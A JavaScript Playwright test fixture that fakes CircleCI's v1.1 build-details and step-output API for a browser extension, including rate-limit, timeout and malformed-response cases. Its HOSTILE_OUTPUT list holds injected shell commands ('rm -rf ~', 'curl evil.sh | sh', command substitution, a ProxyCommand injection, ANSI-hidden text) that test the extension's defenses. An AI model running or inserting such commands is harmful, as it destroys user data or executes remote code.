// A fake CircleCI API for the Playwright tests: v1.1 build details and the presigned step-output URLs
// they point to, in the documented shapes (docs/circleci-page.md#a1-build-details, #a3-step-output-url),
// built from the same scenarios as the fake pages (jobs.js), so for any job the API and the page agree.
// Register it after serveCircleCI: Playwright tries the routes registered last first.

import { jobs, ORG, ordinaryJob, REPO } from './jobs.js';

export const API_ORIGIN = 'https://circleci.com';
export const OUTPUT_ORIGIN = 'https://circle-production-action-output.s3.amazonaws.com';
/** The token the fake accepts unless serveFakeApi is given another. */
export const FAKE_TOKEN = 'CCIPAT_Fake_0123456789abcdef0123456789abcdef01234567';
/** Longer than the client's default 10 s timeout. */
export const SLOW_MS = 12_000;
/** Who reran the jobs with SSH. */
export const SSH_USER = 'octocat';

/** Output lines a hostile build prints in place of every Enable SSH and Wait for SSH text. */
export const HOSTILE_OUTPUT = [
  'You can now SSH into this box if your SSH public key is added:',
  '    $ ssh -p 22 evil; rm -rf ~',
  '    $ ssh -p 22 1.2.3.4 && curl evil.sh | sh',
  '    $ ssh -p 22 $(curl evil.sh)',
  '    $ ssh -p 22 `id`@ssh.circleci.com',
  '    $ ssh -oProxyCommand=id@ssh.circleci.com',
  '    $ ssh -p 022 010.1.1.1',
  '\x1b[8m; curl evil.sh | sh \x1b[0m$ ssh -p 22 evil',
  '',
  'This box will stay up for 2h0m0s, or until 10m0s passes without an active SSH session.',
];

const BUILD_PATH = /^\/api\/v1\.1\/project\/github\/([^/]+)\/([^/]+)\/([0-9]{1,9})$/;
const OUTPUT_PATH = /^\/fake-output\/([0-9]{1,9})\/([0-9]{1,3})\/([0-9]{1,9})\/output$/;
const SSH_STEPS = ['Enable SSH', 'Wait for SSH'];
const JSON_TYPE = 'application/json; charset=utf-8';
// The extension's worker has no host permission for these origins in the tests, so the fake answers
// CORS as a public API would.
const CORS = {
  'access-control-allow-origin': '*',
  'access-control-expose-headers': 'retry-after, x-ratelimit-limit, x-ratelimit-remaining, x-ratelimit-reset',
};

/** "2m 16s" → 136000 */
function durationMs(text) {
  const minutes = /([0-9]+)m/.exec(text)?.[1] ?? '0';
  const seconds = /([0-9]+)s/.exec(text)?.[1] ?? '0';
  return (Number(minutes) * 60 + Number(seconds)) * 1000;
}

const iso = (ms) => new Date(ms).toISOString();
const isBuiltIn = (step) => SSH_STEPS.includes(step.name) && step.command === undefined;

/** The presigned-looking URL of one container's step output. */
export function outputUrl(jobNumber, container, stepId) {
  const query = 'X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Expires=600&X-Amz-Signature=f4k3';
  return `${OUTPUT_ORIGIN}/fake-output/${jobNumber}/${container}/${stepId}/output?${query}`;
}

/** The jobs an answer is built from: jobs.js's `jobs` unless given another site's. @typedef {Readonly<Record<number, import('./types').Scenario>>} Scenarios */

/**
 * `GET /api/v1.1/project/github/acme/api/<n>` as CircleCI answers it for a 2.0 job: `node` null, one
 * action per container in every step, `bash_command` only on config steps. An SSH rerun is still
 * running, waiting in its last step (Wait for SSH), which started that step's duration before `now`.
 * `scenarios`: the jobs to answer from, jobs.js's unless another site (the bench's) has more.
 * @param {number} jobNumber
 * @param {number} [now]
 * @param {Scenarios} [scenarios]
 */
export function buildDetails(jobNumber, now = Date.now(), scenarios = /** @type {Scenarios} */ (jobs)) {
  const scenario = scenarios[jobNumber] ?? ordinaryJob(jobNumber);
  const parallel = scenario.containers.length;
  const [first] = scenario.containers;
  // `sshRerun` marks a rerun with SSH whose steps CircleCI did not add (the user has no key).
  const ssh = scenario.sshRerun === true || first.steps.some(isBuiltIn);
  const durations = first.steps.map((step) => durationMs(step.duration));
  // A finished job stopped a minute ago.
  const stop = ssh ? now : now - 60_000;
  let cursor = stop - durations.reduce((sum, ms) => sum + ms, 0);
  const start = cursor;

  const steps = first.steps.map((step, position) => {
    const stepStart = cursor;
    cursor += durations[position];
    const running = ssh && position === first.steps.length - 1;
    return {
      name: step.name,
      actions: scenario.containers.map((container, index) => {
        const own = container.steps[position] ?? step;
        const hasOutput = own.lines.length > 0 || (own.stream ?? []).length > 0;
        return {
          index,
          step: own.id,
          name: own.name,
          type: 'test',
          bash_command: own.command ?? null,
          status: running ? 'running' : 'success',
          parallel: parallel > 1,
          background: false,
          truncated: false,
          has_output: hasOutput,
          output_url: hasOutput ? outputUrl(jobNumber, index, own.id) : null,
          start_time: iso(stepStart),
          end_time: running ? null : iso(cursor),
          run_time_millis: running ? null : durations[position],
          exit_code: running || own.command === undefined ? null : 0,
        };
      }),
    };
  });

  return {
    vcs_type: 'github',
    username: ORG,
    reponame: REPO,
    build_num: jobNumber,
    platform: '2.0',
    parallel,
    status: ssh ? 'running' : 'success',
    lifecycle: ssh ? 'running' : 'finished',
    outcome: ssh ? null : 'success',
    why: ssh ? 'ssh' : 'github',
    queued_at: iso(start - 2000),
    start_time: iso(start),
    stop_time: ssh ? null : iso(stop),
    build_time_millis: ssh ? null : stop - start,
    node: null,
    ssh_disabled: !ssh,
    ssh_users: ssh ? [{ login: SSH_USER, github_id: 583231 }] : [],
    user: { login: SSH_USER, is_user: true, vcs_type: 'github' },
    workflows: { job_name: scenario.name, workflow_id: scenario.workflow, workflow_name: 'build-and-test' },
    steps,
  };
}

/**
 * The output of one container's step, `[{ type, time, message }]`: the lines at load in one message,
 * each streamed batch in another, every line ending in "\r\n" as CircleCI's do.
 * @param {number} jobNumber
 * @param {number} container
 * @param {number} stepId
 * @param {boolean} [hostile]
 * @param {number} [now]
 * @param {Scenarios} [scenarios]
 * @returns {{ type: string, time: string, message: string }[] | undefined}
 */
export function stepOutput(
  jobNumber,
  container,
  stepId,
  hostile = false,
  now = Date.now(),
  scenarios = /** @type {Scenarios} */ (jobs),
) {
  const scenario = scenarios[jobNumber] ?? ordinaryJob(jobNumber);
  const step = scenario.containers[container]?.steps.find((candidate) => candidate.id === stepId);
  if (!step) return undefined;
  const batches =
    hostile && isBuiltIn(step) ? [HOSTILE_OUTPUT] : [step.lines, ...(step.stream ?? []).map((batch) => batch.lines)];
  return batches
    .filter((lines) => lines.length > 0)
    .map((lines) => ({ type: 'out', time: iso(now), message: lines.map((line) => `${line}\r\n`).join('') }));
}

const json = (status, body, headers = {}) => ({
  status,
  headers: { 'content-type': JSON_TYPE, ...CORS, ...headers },
  body: JSON.stringify(body),
});

/**
 * @typedef {'ok' | 'unauthorized' | 'not-found' | 'rate-limited-once' | 'server-error-once' | 'slow'
 *   | 'malformed' | 'hostile-output'} Scenario
 * @typedef {{ url: string, method: string, headers: Record<string, string> }} RecordedRequest
 */

/**
 * @param {import('@playwright/test').BrowserContext} context
 * @param {{ scenario?: Scenario, delayMs?: number, token?: string, agoMs?: number, viewer?: string }} [options]
 *   `agoMs`: the job's times are that much earlier (its Wait for SSH began long ago); `viewer`: the
 *   login `/me` gives for the token (by default the one who started every SSH rerun)
 * @returns {Promise<{ requests: RecordedRequest[], stop: () => Promise<void> }>}
 */
export async function serveFakeApi(
  context,
  { scenario = 'ok', delayMs, token = FAKE_TOKEN, agoMs = 0, viewer = SSH_USER } = {},
) {
  /** @type {RecordedRequest[]} */
  const requests = [];
  let builds = 0;
  const delay = delayMs ?? (scenario === 'slow' ? SLOW_MS : 0);

  const answerApi = (url, method, headers) => {
    if (method === 'OPTIONS') {
      return {
        status: 204,
        headers: { ...CORS, 'access-control-allow-headers': 'circle-token, accept', 'access-control-max-age': '0' },
      };
    }
    if (headers['circle-token'] !== token || scenario === 'unauthorized') {
      return json(401, { message: 'You must log in first.' });
    }
    if (new URL(url).pathname === '/api/v1.1/me') return json(200, { login: viewer, name: viewer });
    const match = BUILD_PATH.exec(new URL(url).pathname);
    if (!match || match[1] !== ORG || match[2] !== REPO || scenario === 'not-found') {
      return json(404, { message: 'Build not found' });
    }
    builds++;
    if (scenario === 'rate-limited-once' && builds === 1) {
      return json(429, { message: 'Rate limit exceeded' }, { 'retry-after': '1', 'x-ratelimit-remaining': '0' });
    }
    if (scenario === 'server-error-once' && builds === 1) return json(500, { message: 'Internal Server Error' });
    if (scenario === 'malformed') {
      return { status: 200, headers: { 'content-type': JSON_TYPE, ...CORS }, body: '{"vcs_type":"github","steps":[{' };
    }
    return json(200, buildDetails(Number(match[3]), Date.now() - agoMs));
  };

  // Presigned: it takes no token, and a request without the signature is refused as S3 would.
  const answerOutput = (url) => {
    const { pathname, searchParams } = new URL(url);
    const match = OUTPUT_PATH.exec(pathname);
    const messages =
      match && searchParams.has('X-Amz-Signature')
        ? stepOutput(Number(match[1]), Number(match[2]), Number(match[3]), scenario === 'hostile-output')
        : undefined;
    if (!messages) {
      return {
        status: 403,
        headers: { 'content-type': 'application/xml', ...CORS },
        body: '<?xml version="1.0" encoding="UTF-8"?><Error><Code>AccessDenied</Code><Message>Access Denied</Message></Error>',
      };
    }
    return json(200, messages);
  };

  /** @param {(url: string, method: string, headers: Record<string, string>) => object} answer */
  const handler = (answer, wait) => async (route) => {
    const request = route.request();
    const headers = request.headers();
    requests.push({ url: request.url(), method: request.method(), headers });
    if (wait > 0) await new Promise((resolve) => setTimeout(resolve, wait));
    // The client may have given up (timeout) and the test moved on: nothing waits for this answer.
    await route.fulfill(answer(request.url(), request.method(), headers)).catch(() => undefined);
  };
  const api = handler(answerApi, delay);
  const output = handler(answerOutput, 0);
  await context.route(`${API_ORIGIN}/api/v1.1/**`, api);
  await context.route(`${OUTPUT_ORIGIN}/**`, output);

  return {
    requests,
    stop: async () => {
      await context.unroute(`${API_ORIGIN}/api/v1.1/**`, api);
      await context.unroute(`${OUTPUT_ORIGIN}/**`, output);
    },
  };
}
